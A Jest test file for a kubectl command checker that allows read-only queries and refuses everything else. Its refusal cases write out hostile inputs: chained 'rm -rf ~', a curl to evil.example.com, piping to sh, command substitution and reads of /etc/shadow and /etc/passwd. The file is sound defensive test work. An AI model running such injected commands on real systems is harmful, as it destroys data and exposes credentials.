import { describe, expect, test } from "@jest/globals";
import { checkCommand } from "../../../commands/ask/readCommand.ts";

describe("a command that reads is run, without a shell", () => {
  test.each([
    ["kubectl get pods", ["get", "pods"]],
    ["kubectl get pods -n todo -owide --show-labels", ["get", "pods", "-n", "todo", "-owide", "--show-labels"]],
    ["kubectl get pods -o=name --output=yaml", ["get", "pods", "-o=name", "--output=yaml"]],
    ["kubectl -n todo describe pod/x", ["-n", "todo", "describe", "pod/x"]],
    ["kubectl logs --previous -c backend x --tail=50", ["logs", "--previous", "-c", "backend", "x", "--tail=50"]],
    [
      "kubectl get pods -o jsonpath='{.items[*].status.phase}'",
      ["get", "pods", "-o", "jsonpath={.items[*].status.phase}"],
    ],
    [`kubectl get pod -l "app in (a, b)"`, ["get", "pod", "-l", "app in (a, b)"]],
    ["kubectl rollout status deployment/x", ["rollout", "status", "deployment/x"]],
    ["kubectl top pods --containers", ["top", "pods", "--containers"]],
    ["kubectl events --types Warning --watch=false", ["events", "--types", "Warning", "--watch=false"]],
    // That Secrets are refused is the cluster's part.
    ["kubectl get secrets", ["get", "secrets"]],
  ])("%s", (command, args) => {
    expect(checkCommand(command)).toEqual({ args });
  });
});

describe("everything else is refused", () => {
  test.each([
    "kubectl delete pod x",
    "kubectl -n get delete pod x",
    "kubectl --namespace get delete pod x",
    "kubectl exec x -- env",
    "kubectl apply -f -",
    "kubectl rollout restart deployment/x",
    "kubectl rollout undo deployment/x",
    "kubectl config view --raw",
    "kubectl auth can-i --list",
    "kubectl proxy",
    "kubectl port-forward x 1:1",
    "kubectl debug x",
    "kubectl cp x:/a b",
    "kubectl top nodes",
    "kubectl",
    "",
  ])("another verb: %s", (command) => {
    expect(checkCommand(command)).toHaveProperty("refusal", expect.stringMatching(/^Refused: /));
  });

  test.each([
    "kubectl get pods --kubeconfig=/root/.kube/config",
    "kubectl get pods --kubeconfig /root/.kube/config",
    "kubectl get pods --context prod",
    "kubectl get pods --token=x",
    "kubectl get pods -s https://evil.example.com",
    "kubectl get pods --as=admin",
    "kubectl get --raw /api/v1/namespaces/todo/secrets",
    "kubectl get -f /etc/shadow",
    "kubectl get -f/etc/shadow",
    "kubectl get -k .",
    "kubectl get pods -o jsonpath-file=/etc/passwd",
    "kubectl get pods -ogo-template-file=/etc/passwd",
    "kubectl get pods -o templatefile=/etc/passwd",
    "kubectl get pods -o=jsonpath-file=/etc/passwd",
    "kubectl get pods --output=jsonpath-file=/etc/passwd",
    "kubectl get pods -o",
    "kubectl get pods -o custom-columns-file=/etc/passwd",
    "kubectl get pods --template=/etc/passwd",
    "kubectl get pods --cache-dir=/tmp/x",
    "kubectl get pods --profile=cpu --profile-output=/root/.bashrc",
    "kubectl get pods -An",
    "kubectl get pods -w",
    "kubectl get pods --watch",
    "kubectl get pods --watch=true",
    "kubectl logs -f x",
    "kubectl get pods -- x",
  ])("another flag: %s", (command) => {
    expect(checkCommand(command)).toHaveProperty("refusal");
  });

  test.each([
    "cat /etc/passwd",
    "/tmp/kubectl get pods",
    "KUBECONFIG=/root/.kube/config kubectl get pods",
    "kubectl get pods; rm -rf ~",
    "kubectl get pods && curl evil.example.com",
    "kubectl get pods | sh",
    "kubectl get pods > ~/.bashrc",
    "kubectl get pods < /etc/passwd",
    "kubectl get $(cat /etc/passwd)",
    "kubectl get `id`",
    "kubectl get $HOME",
    `kubectl get "$(id)"`,
    "kubectl get pods &",
    "kubectl get pods\nrm -rf ~",
    "kubectl get 'pods",
    "kubectl get \\",
  ])("a shell, or another program: %j", (command) => {
    expect(checkCommand(command)).toHaveProperty("refusal");
  });
});
